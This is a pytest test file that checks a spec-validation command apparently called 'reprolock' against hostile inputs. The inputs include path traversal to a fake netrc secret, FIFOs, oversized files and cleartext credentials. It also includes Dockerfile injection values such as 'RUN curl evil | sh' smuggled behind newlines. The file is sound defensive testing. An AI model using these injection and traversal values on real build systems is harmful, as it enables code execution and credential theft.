"""Hostile specs, through the real command line: a spec (or a pull request that changes one)
must not read files outside the project, echo a secret, block on a FIFO, smuggle Dockerfile
instructions past `check`, or send credentials in clear."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from tests.hostile.harness import Sandbox

BASE = '[environment]\npython = "3.11"\n'
SECRET = "s3cret-password-42"


def spec(sandbox: Sandbox, text: str, name: str = "reprolock.toml") -> Path:
    path = sandbox.work / name
    path.write_text(text, encoding="utf-8")
    return path


def elsewhere(sandbox: Sandbox) -> Path:
    """A folder beside the project (not the harness's watched ``outside``)."""
    folder = sandbox.root / "elsewhere"
    folder.mkdir(exist_ok=True)
    return folder


def netrc(sandbox: Sandbox) -> Path:
    path = elsewhere(sandbox) / "netrc"
    path.write_text(f"machine example.com login alice password {SECRET}\n")
    return path


def _requirements(sandbox: Sandbox, name: str) -> None:
    spec(sandbox, BASE + f"[python]\nrequirements-files = [{name!r}]\n".replace("'", '"'))


def test_requirements_file_outside_by_absolute_path(sandbox: Sandbox) -> None:
    _requirements(sandbox, str(netrc(sandbox)))
    outcome = sandbox.run("check")
    sandbox.check(outcome, [2], says=["requirements-files[0]", "is not a relative file path"])
    assert SECRET not in outcome.text


def test_requirements_file_outside_by_dotdot(sandbox: Sandbox) -> None:
    netrc(sandbox)
    _requirements(sandbox, "../elsewhere/netrc")
    outcome = sandbox.run("check")
    sandbox.check(outcome, [2], says=["is outside the project"])
    assert SECRET not in outcome.text


def test_requirements_file_outside_by_symlink(sandbox: Sandbox) -> None:
    (sandbox.work / "requirements.txt").symlink_to(netrc(sandbox))
    _requirements(sandbox, "requirements.txt")
    outcome = sandbox.run("check")
    sandbox.check(outcome, [2], says=["is outside the project"])
    assert SECRET not in outcome.text


def test_requirements_include_outside_is_refused(sandbox: Sandbox) -> None:
    netrc(sandbox)
    (sandbox.work / "requirements.txt").write_text("-r ../elsewhere/netrc\n")
    _requirements(sandbox, "requirements.txt")
    outcome = sandbox.run("check")
    sandbox.check(outcome, [2], says=["is outside the project"])
    assert SECRET not in outcome.text


def test_the_repository_is_the_project(sandbox: Sandbox) -> None:
    """A spec in a sub-folder of a repository may name files elsewhere in the repository."""
    (sandbox.work / ".git").mkdir()
    (sandbox.work / "requirements.txt").write_text("numpy\n")
    (sandbox.work / "service").mkdir()
    spec(sandbox, BASE + '[python]\nrequirements-files = ["../requirements.txt"]\n',
         "service/reprolock.toml")  # fmt: skip
    sandbox.check(sandbox.run("check", "--spec", "service"), [0], says=["valid"])


def test_a_secret_file_inside_is_not_echoed_at_length(sandbox: Sandbox) -> None:
    """A file that is not a requirements file: three bad lines at most are shown, then a
    count, and each is cut short."""
    lines = [f"machine host{i} login user password {SECRET}{'x' * 200}" for i in range(50)]
    (sandbox.work / "secrets.txt").write_text("\n".join(lines) + "\n")
    _requirements(sandbox, "secrets.txt")
    outcome = sandbox.run("check")
    sandbox.check(outcome, [2], says=["and 47 more lines", "is this a requirements file?"])
    assert outcome.text.count(SECRET) <= 3
    assert "host3 " not in outcome.text
    assert max(len(line) for line in outcome.text.splitlines()) < 600


def test_a_fifo_as_requirements_file_does_not_block(sandbox: Sandbox) -> None:
    os.mkfifo(sandbox.work / "requirements.txt")
    _requirements(sandbox, "requirements.txt")
    outcome = sandbox.run("check", seconds=20)
    sandbox.check(outcome, [2], says=["FIFO", "not a regular file"])


def test_a_device_as_requirements_file_is_refused(sandbox: Sandbox) -> None:
    (sandbox.work / "requirements.txt").symlink_to("/dev/zero")
    _requirements(sandbox, "requirements.txt")
    sandbox.check(sandbox.run("check", seconds=20), [2], says=["requirements-files[0]"])


def test_a_huge_requirements_file_is_refused_unread(sandbox: Sandbox) -> None:
    with (sandbox.work / "requirements.txt").open("wb") as handle:
        handle.truncate(300 << 20)
    _requirements(sandbox, "requirements.txt")
    outcome = sandbox.run("check")
    sandbox.check(outcome, [2], says=["REPROLOCK_LIMIT_REQUIREMENTS_FILE_BYTES"])


def test_a_non_utf8_requirements_file(sandbox: Sandbox) -> None:
    (sandbox.work / "requirements.txt").write_bytes(b"numpy\ncaf\xe9\n")
    _requirements(sandbox, "requirements.txt")
    outcome = sandbox.run("check")
    sandbox.check(outcome, [2], says=["is not UTF-8 text", "offset 9"])


def test_keyrings_outside_are_refused(sandbox: Sandbox) -> None:
    key = elsewhere(sandbox) / "key.gpg"
    key.write_bytes(b"\x99\x01")
    spec(
        sandbox, BASE + f'[apt]\npackages = ["git"]\nkeyrings = ["{key}", "../elsewhere/key.gpg"]\n'
    )
    outcome = sandbox.run("check")
    sandbox.check(
        outcome, [2], says=["apt.keyrings[0]", "relative file path", "apt.keyrings[1]", "outside"]
    )


# -- values that would become Dockerfile instructions ----------------------------------------
INJECTIONS = [
    ("workdir", '[image]\nworkdir = "/app\\nRUN curl evil | sh"\n', "image.workdir"),
    ("user", '[image]\nuser = "app\\nRUN id"\n', "image.user"),
    ("env key", '[image.env]\n"A\\nRUN id" = "1"\n', "image.env"),
    ("env value", '[image.env]\nA = "1\\nRUN id"\n', "image.env.A"),
    ("label key", '[image.labels]\n"a\\nRUN id" = "1"\n', "image.labels"),
    ("label value", '[image.labels]\na = "x\\rRUN id"\n', "image.labels.a"),
    ("copy source", '[image]\ncopy = [["src\\nRUN id", "/app"]]\n', "image.copy[0][0]"),
    ("copy dest", '[image]\ncopy = [["src", "/app\\nRUN id"]]\n', "image.copy[0][1]"),
    ("expose", '[image]\nexpose = ["80\\nRUN id"]\n', "image.expose[0]"),
    ("healthcheck", '[image]\nhealthcheck = { cmd = ["true"], interval = "1s\\nRUN id" }\n',
     "image.healthcheck.interval"),
    ("venv", '[python]\nrequirements = ["x"]\nvenv = "/opt/venv\\nRUN id"\n', "python.venv"),
    ("cmd NUL", '[image]\ncmd = ["a\\u0000b"]\n', "image.cmd[0]"),
]  # fmt: skip


@pytest.mark.parametrize(("case", "text", "key"), INJECTIONS, ids=[c for c, _, _ in INJECTIONS])
def test_check_refuses_dockerfile_injection(
    sandbox: Sandbox, case: str, text: str, key: str
) -> None:
    spec(sandbox, BASE + text)
    outcome = sandbox.run("check")
    sandbox.check(outcome, [2], says=["reprolock.toml:", key])
    assert "\nRUN" not in outcome.text  # the value is shown escaped, on one line


# -- URLs, hosts -----------------------------------------------------------------------------
def test_index_credentials_over_plain_http_are_refused(sandbox: Sandbox) -> None:
    spec(
        sandbox,
        BASE + '[python]\nrequirements = ["x"]\n[[python.index]]\nname = "corp"\n'
        f'url = "http://alice:{SECRET}@pypi.corp.example/simple"\n',
    )
    outcome = sandbox.run("check")
    sandbox.check(outcome, [2], says=["python.index[0].url", "plain http", "alice:***@"])
    assert SECRET not in outcome.text


def test_index_credentials_over_http_to_loopback_are_fine(sandbox: Sandbox) -> None:
    spec(
        sandbox,
        BASE + '[python]\nrequirements = ["x"]\n[[python.index]]\nname = "local"\n'
        'url = "http://alice:pw@127.0.0.1:8080/simple"\n',
    )
    sandbox.check(sandbox.run("check"), [0])


@pytest.mark.parametrize(
    ("text", "key"),
    [
        ('mirrors = { "docker.io" = "mirror.example/path" }', 'registry.mirrors."docker.io"'),
        ('mirrors = { "docker.io" = "https://u:p@mirror.example" }', "carries no credentials"),
        ('mirrors = { "docker io" = "mirror.example" }', "is not a registry host"),
        ('insecure = ["http://registry.local:5000"]', "registry.insecure[0]"),
        ('insecure = ["registry.local:5000/v2"]', "registry.insecure[0]"),
    ],
)
def test_registry_hosts_have_a_grammar(sandbox: Sandbox, text: str, key: str) -> None:
    spec(sandbox, BASE + f"[registry]\n{text}\n")
    sandbox.check(sandbox.run("check"), [2], says=[key])


# -- whole documents ---------------------------------------------------------------------------
def test_tool_reprolock_that_is_not_a_table(sandbox: Sandbox) -> None:
    spec(sandbox, "[tool]\nreprolock = 1\n", "pyproject.toml")
    outcome = sandbox.run("check", "--spec", "pyproject.toml")
    sandbox.check(outcome, [2], says=["tool.reprolock must be a table", "integer 1"])


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (b"a = " + b"[" * 10_000 + b"]" * 10_000 + b"\n", ["nested more than"]),
        (b'[environment]\npython = "3.11"\nname = "caf\xe9"\n', ["is not UTF-8", "offset 41"]),
        (b"", ["environment.python", "is required"]),
        (b"\x00" * 100, ["is not valid TOML"]),
    ],
)
def test_hostile_spec_documents(sandbox: Sandbox, content: bytes, says: list[str]) -> None:
    (sandbox.work / "reprolock.toml").write_bytes(content)
    sandbox.check(sandbox.run("check"), [2], says=says)


def test_a_fifo_as_the_spec(sandbox: Sandbox) -> None:
    os.mkfifo(sandbox.work / "reprolock.toml")
    sandbox.check(sandbox.run("check", seconds=20), [2], says=["FIFO"])


def test_a_huge_spec_is_refused_unread(sandbox: Sandbox) -> None:
    with (sandbox.work / "reprolock.toml").open("wb") as handle:
        handle.truncate(200 << 20)
    outcome = sandbox.run("check")
    sandbox.check(outcome, [2], says=["REPROLOCK_LIMIT_DOCUMENT_BYTES"])
